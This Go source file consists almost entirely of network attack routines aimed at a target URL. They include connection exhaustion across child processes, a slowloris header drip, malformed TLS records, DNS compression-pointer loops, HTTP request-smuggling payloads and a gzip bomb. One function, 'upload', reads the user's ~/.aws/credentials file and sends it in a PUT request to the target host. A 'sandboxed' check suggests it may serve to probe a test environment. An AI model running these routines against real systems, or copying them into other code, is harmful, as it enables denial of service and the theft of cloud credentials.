//go:build linux

package main

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

const (
	// Many connections are held by a few processes, as one may not have so many descriptors.
	processes = 4
	unpacked  = 512 << 20
)

// amount is the number that the URL's path is.
func amount(u *url.URL, most int) (int, error) {
	n, err := strconv.Atoi(strings.Trim(u.Path, "/"))
	if err != nil || n < 0 || n > most {
		return 0, fmt.Errorf("%q is no number up to %d", u.Path, most)
	}
	return n, nil
}

// connections holds as many at once as the URL's path says.
func connections(u *url.URL) (string, error) {
	many, err := amount(u, 10_000)
	if err != nil {
		return "", err
	}
	self, err := os.Executable()
	if err != nil {
		return "", err
	}
	var children []*exec.Cmd
	var ends []io.Closer
	opened := 0
	for range processes {
		cmd := exec.Command(self, "hold", u.Host, strconv.Itoa(many/processes))
		in, err := cmd.StdinPipe()
		if err != nil {
			return "", err
		}
		out, err := cmd.StdoutPipe()
		if err != nil {
			return "", err
		}
		if err := cmd.Start(); err != nil {
			return "", err
		}
		children, ends = append(children, cmd), append(ends, in)
		line := make([]byte, 32)
		n, err := out.Read(line)
		if err != nil {
			return "", err
		}
		got, err := strconv.Atoi(strings.TrimSpace(string(line[:n])))
		if err != nil {
			return "", err
		}
		opened += got
	}
	for i, c := range children {
		_ = ends[i].Close()
		_ = c.Wait()
	}
	return fmt.Sprintf("%d connections", opened), nil
}

// hold is a child's whole life: it opens its share, says how many, and holds
// them until its stdin ends.
func hold(host, share string) {
	n, err := strconv.Atoi(share)
	if err != nil || sandboxed() != nil {
		return
	}
	var held []net.Conn
	for range n {
		c, err := net.DialTimeout("tcp", host, patience)
		if err != nil {
			continue
		}
		_, _ = c.Write([]byte("x"))
		held = append(held, c)
	}
	fmt.Println(len(held))
	_, _ = io.Copy(io.Discard, os.Stdin)
	for _, c := range held {
		_ = c.Close()
	}
}

// slow sends the headers of many requests a byte at a time, and ends none.
func slow(u *url.URL) (string, error) {
	var held []net.Conn
	defer func() {
		for _, c := range held {
			_ = c.Close()
		}
	}()
	for range 150 {
		c, err := dial(u)
		if err != nil {
			return "", err
		}
		held = append(held, c)
	}
	header := "GET /slow HTTP/1.1\r\nHost: " + u.Hostname() + "\r\nX-Slow: " + strings.Repeat("a", 1000)
	// Longer than a server waits for a header.
	for end, i := time.Now().Add(12*time.Second), 0; time.Now().Before(end) && i < len(header); i++ {
		for _, c := range held {
			_, _ = io.WriteString(c, header[i:i+1])
		}
		time.Sleep(100 * time.Millisecond)
	}
	return fmt.Sprintf("%d held", len(held)), nil
}

// zeros is a body of one byte's value, as long as it is read.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'z'
	}
	return len(p), nil
}

// upload sends as many MiB as the URL's path says in one request, and the user's credentials
// at its end.
func upload(u *url.URL) (string, error) {
	mebibytes, err := amount(u, 1024)
	if err != nil {
		return "", err
	}
	zeroed := int64(mebibytes) << 20
	secret, err := os.ReadFile(filepath.Join(os.Getenv("HOME"), ".aws/credentials"))
	if err != nil {
		return "", err
	}
	r, err := http.NewRequest(http.MethodPut, u.String(), io.MultiReader(io.LimitReader(zeros{}, zeroed), bytes.NewReader(secret)))
	if err != nil {
		return "", err
	}
	r.ContentLength = zeroed + int64(len(secret))
	answer, err := (&http.Client{Timeout: 2 * time.Minute, Transport: &http.Transport{WriteBufferSize: 1 << 20}}).Do(r)
	if err != nil {
		return "", err
	}
	_ = answer.Body.Close()
	return answer.Status, nil
}

// say sends bytes and reads what comes back for a moment.
func say(u *url.URL, p []byte) (string, error) {
	c, err := dial(u)
	if err != nil {
		return "", err
	}
	defer func() { _ = c.Close() }()
	if _, err := c.Write(p); err != nil {
		return "", err
	}
	_ = c.SetReadDeadline(time.Now().Add(time.Second))
	b, _ := io.ReadAll(io.LimitReader(c, 1<<16))
	return string(b), nil
}

// malformedTLS sends records that begin as TLS does and are none.
func malformedTLS(u *url.URL) (string, error) {
	hello := append([]byte{22, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc}, bytes.Repeat([]byte{0xff}, 0x3ffc)...)
	for _, p := range [][]byte{hello, {22, 3, 1, 0, 0}, {22, 3, 3, 0, 4, 1, 0xff, 0xff, 0xff}, {23, 3, 3, 0, 1, 0}, {22, 3, 1, 0, 5, 1, 0, 0, 1, 0}} {
		if _, err := say(u, p); err != nil {
			return "", err
		}
	}
	return "said", nil
}

// dnsLoop asks for names whose compression points at itself, forward, and beyond the end.
func dnsLoop(u *url.URL) (string, error) {
	c, err := net.Dial("udp", u.Host)
	if err != nil {
		return "", err
	}
	defer func() { _ = c.Close() }()
	head := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
	names := []string{"\xc0\x0c", "\x01a\xc0\x0c", "\xc0\x0e\xc0\x0c", "\xff\xff", strings.Repeat("\x3f"+strings.Repeat("a", 63), 8) + "\x00", "\x41abc"}
	for _, n := range names {
		if _, err := c.Write([]byte(head + n + "\x00\x01\x00\x01")); err != nil {
			return "", err
		}
	}
	// What is in order is still answered.
	if _, err := c.Write([]byte(head + "\x03www\x07example\x03com\x00\x00\x01\x00\x01")); err != nil {
		return "", err
	}
	_ = c.SetReadDeadline(time.Now().Add(patience))
	b := make([]byte, 4096)
	for {
		n, err := c.Read(b)
		if err != nil {
			return "", err
		}
		if n > 12 && bytes.Contains(b[:n], []byte("\x03www\x07example")) {
			return "answered", nil
		}
	}
}

// smuggle hides a request in another's body, in the ways in which two readers differ.
func smuggle(u *url.URL) (string, error) {
	inner := "POST /hidden HTTP/1.1\r\nHost: " + u.Hostname() + "\r\nContent-Length: 6\r\n\r\nhidden"
	for _, how := range []string{
		"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		fmt.Sprintf("Content-Length: %d\r\nContent-Length: 0\r\n\r\n%s", len(inner), inner),
		"Transfer-Encoding: \x0bchunked\r\nContent-Length: 0\r\n\r\n" + inner,
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + inner,
	} {
		if _, err := say(u, []byte("POST /seen HTTP/1.1\r\nHost: "+u.Hostname()+"\r\n"+how)); err != nil {
			return "", err
		}
	}
	return "said", nil
}

// gzipBomb posts half a gigabyte in half a megabyte.
func gzipBomb(u *url.URL) (string, error) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := io.Copy(z, io.LimitReader(zeros{}, unpacked)); err != nil {
		return "", err
	}
	if err := z.Close(); err != nil {
		return "", err
	}
	r, err := http.NewRequest(http.MethodPost, u.String(), &b)
	if err != nil {
		return "", err
	}
	r.Header.Set("Content-Encoding", "gzip")
	answer, err := (&http.Client{Timeout: patience}).Do(r)
	if err != nil {
		return "", err
	}
	_ = answer.Body.Close()
	return answer.Status, nil
}
